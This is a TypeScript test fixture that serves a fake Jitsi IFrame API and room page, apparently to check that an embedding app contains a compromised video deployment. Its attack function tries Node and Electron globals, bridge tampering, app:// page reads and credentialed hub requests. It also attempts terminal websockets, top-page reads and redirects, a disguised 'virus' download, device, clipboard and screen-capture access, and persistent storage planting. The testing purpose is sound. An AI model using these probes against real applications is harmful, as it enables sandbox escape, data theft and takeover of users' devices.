/**
 * What a deployment that turned against us may serve in place of Jitsi's external_api.js and of its room page. It runs in
 * the pages as text: nothing here may use anything outside its own function.
 */

export interface HostileTargets {
  /** Hears what gets out: nobody may be led or write there. */
  readonly post: string;
  readonly hub: string;
}

/** By what was tried: "refused …", or "got …". */
export type Outcomes = Readonly<Record<string, string>>;

declare global {
  interface Window {
    attack: () => Promise<Outcomes>;
    /** Leaves things behind that the next visit would find. */
    plant: () => Promise<void>;
  }
}

/** In place of external_api.js: pretends a call that is live, and waits for the test to say when to attack. */
export function hostileScript(targets: HostileTargets): string {
  return `${common(targets)}\n(${pretendedApi})();`;
}

/** In place of the room page. It joins nothing. */
export function hostilePage(targets: HostileTargets): string {
  return `<!doctype html><meta charset="utf-8"><title>Jitsi</title><p>Bonjour</p><script>${common(targets)}</script>`;
}

function common(targets: HostileTargets): string {
  return `window.attack = () => (${attackAll})(${JSON.stringify(targets)}); window.plant = ${plantThings};`;
}

/** The IFrame API as far as a page of ours looks at it: somebody is there at once, and all is well. */
function pretendedApi(): void {
  const listeners = new Map<string, ((data: unknown) => void)[]>();
  const tell = (name: string, data: unknown) => {
    for (const listener of listeners.get(name) ?? []) listener(data);
  };
  Object.assign(window, {
    tellHostile: tell,
    JitsiMeetExternalAPI: class {
      constructor() {
        setTimeout(() => {
          tell('videoConferenceJoined', { id: 'me' });
          tell('participantJoined', { id: 'you', displayName: 'Nadia Belkacem' });
        }, 200);
      }
      addListener = (name: string, listener: (data: unknown) => void) => {
        listeners.set(name, [...(listeners.get(name) ?? []), listener]);
      };
      executeCommand = () => undefined;
      dispose = () => listeners.clear();
      isAudioMuted = async () => false;
      isVideoMuted = async () => false;
      isP2pActive = async () => true;
      getCurrentDevices = async () => ({});
      setVideoInputDevice = async () => undefined;
      setAudioInputDevice = async () => undefined;
      setAudioOutputDevice = async () => undefined;
    },
  });
}

async function plantThings(): Promise<void> {
  try {
    localStorage.setItem('resident', 'Madame Martin');
    sessionStorage.setItem('resident', 'Madame Martin');
    indexedDB.open('visits');
    const cache = await caches.open('visits');
    await cache.put('https://localhost/resident', new Response('Madame Martin'));
  } catch {
    // Where it may not even store, all the better.
  }
}

async function attackAll({ post, hub }: HostileTargets): Promise<Outcomes> {
  const outcomes: Record<string, string> = {};
  // Whatever the page exposes, by any name.
  const bag = window as unknown as Record<string, Record<string, (...list: unknown[]) => unknown>>;
  const tools = navigator as unknown as Record<string, Record<string, (...list: unknown[]) => unknown>>;
  const attempt = async (name: string, act: () => unknown) => {
    let patience = 0;
    const late = new Promise((_resolve, reject) => {
      patience = window.setTimeout(() => reject(new Error('no answer')), 1_500);
    });
    try {
      outcomes[name] = `got ${String(await Promise.race([act(), late])).slice(0, 200)}`;
    } catch (error) {
      outcomes[name] =
        `refused ${error instanceof Error ? `${error.name} ${error.message}`.slice(0, 120) : ''}`;
    }
    clearTimeout(patience);
  };
  const must = <T>(value: T): NonNullable<T> => {
    if (value) return value;
    throw new Error('nothing');
  };
  const read = async (address: string) => must(await (await fetch(address)).text());
  const loads = (element: HTMLElement & { src: string }, address: string) =>
    new Promise((resolve, reject) => {
      element.addEventListener('load', () => resolve(address));
      element.addEventListener('error', () => reject(new Error('not loaded')));
      element.src = address;
      document.documentElement.append(element);
    });

  const powers = ['process', 'require', 'module', 'Buffer', 'global', 'electron', 'ipcRenderer', '__dirname'];
  for (const name of powers) await attempt(`global ${name}`, () => must(bag[name]));
  const client = bag.terminal ?? {};
  for (const [name, call] of Object.entries(client)) {
    await attempt(`process behind ${name}`, () =>
      must(
        (call as unknown as { constructor: (code: string) => () => unknown }).constructor('return process')(),
      ),
    );
  }
  await attempt('another member of the bridge', () =>
    must(Object.keys(client).find((name) => !['onOrder', 'report', 'devices'].includes(name))),
  );
  await attempt('a changed bridge', () => {
    if (!bag.terminal) throw new Error('there is none');
    client.report = () => 'mine';
    return must(client.report() === 'mine');
  });

  for (const place of [
    'face/index.html',
    'desk/index.html',
    'desk/page/00000000-0000-4000-8000-000000000000/1',
  ]) {
    await attempt(`fetches app://${place}`, () => read(`app://${place}`));
    await attempt(`imports app://${place}`, () => loads(document.createElement('script'), `app://${place}`));
    await attempt(`pictures app://${place}`, () => loads(new Image(), `app://${place}`));
    await attempt(`frames app://${place}`, async () => {
      const frame = document.createElement('iframe');
      await loads(frame, `app://${place}`);
      return must(frame.contentDocument?.body.innerHTML);
    });
  }

  await attempt('fetches from the hub', () => read(`${hub}/api/settings`));
  await attempt('asks the hub who is logged in', async () =>
    must(await (await fetch(`${hub}/api/me`, { credentials: 'include' })).text()),
  );
  for (const path of ['/ws/console', '/ws/terminal']) {
    await attempt(`opens ${path}`, async () => {
      const socket = new WebSocket(`${hub.replace(/^http/, 'ws')}${path}`);
      await new Promise((resolve, reject) => {
        socket.onopen = resolve;
        socket.onerror = () => reject(new Error('not opened'));
      });
      // A hub that speaks to it has taken it in.
      return await new Promise((resolve, reject) => {
        socket.onmessage = ({ data }) => resolve(data);
        socket.onclose = () => reject(new Error('closed'));
      });
    });
  }

  await attempt('reads the page around it', () => {
    if (window.parent === window) throw new Error('there is none');
    return must(window.parent.document.body.innerHTML);
  });
  await attempt('reads the top page', () => {
    if (window.top === window) throw new Error('it is the top');
    return must(window.top?.document.body.innerHTML);
  });
  await attempt('reads the storage of the top page', () => {
    if (window.top === window) throw new Error('it is the top');
    return must(window.top?.localStorage);
  });
  await attempt('opener', () => must(window.opener));
  await attempt('opens a window', () => must(window.open(`${post}/window`)));
  await attempt('opens a window by a link', () => {
    const link = document.createElement('a');
    Object.assign(link, { href: `${post}/link`, target: '_blank', rel: 'opener' });
    document.documentElement.append(link);
    link.click();
    throw new Error('see the post');
  });
  await attempt('leads the top page away', () => {
    if (window.top) window.top.location.href = `${post}/top`;
    throw new Error('see the post');
  });
  await attempt('downloads', () => {
    const link = document.createElement('a');
    link.href = URL.createObjectURL(new Blob(['virus']));
    link.download = 'formulaire.pdf';
    document.documentElement.append(link);
    link.click();
    throw new Error('see the downloads');
  });

  await attempt('geolocation', () => {
    return new Promise((resolve, reject) => navigator.geolocation.getCurrentPosition(resolve, reject));
  });
  await attempt('notifications', async () => must((await Notification.requestPermission()) === 'granted'));
  await attempt('HID', async () => must(String((await tools.hid?.requestDevice?.({ filters: [] })) ?? '')));
  await attempt('HID known', async () => must(String((await tools.hid?.getDevices?.()) ?? '')));
  await attempt('USB', async () => must(await tools.usb?.requestDevice?.({ filters: [] })));
  await attempt('serial', async () => must(await tools.serial?.requestPort?.()));
  await attempt('Bluetooth', async () =>
    must(await tools.bluetooth?.requestDevice?.({ acceptAllDevices: true })),
  );
  await attempt('MIDI', () => navigator.requestMIDIAccess());
  await attempt('the clipboard', () => navigator.clipboard.readText());
  await attempt('the whole screen for itself', () => document.documentElement.requestFullscreen());
  await attempt('the pointer', async () => {
    await document.documentElement.requestPointerLock();
    return must(document.pointerLockElement);
  });
  await attempt('a picture of a screen', async () => {
    const wanted = { mandatory: { chromeMediaSource: 'desktop' } } as unknown as MediaTrackConstraints;
    return navigator.mediaDevices.getUserMedia({ video: wanted });
  });
  await attempt('a service worker', () => navigator.serviceWorker.register('/external_api.js'));
  // In a page of its own it may.
  if (window.location.protocol !== 'https:')
    await attempt('code out of text', () => must(new Function('return 1')()));
  return outcomes;
}
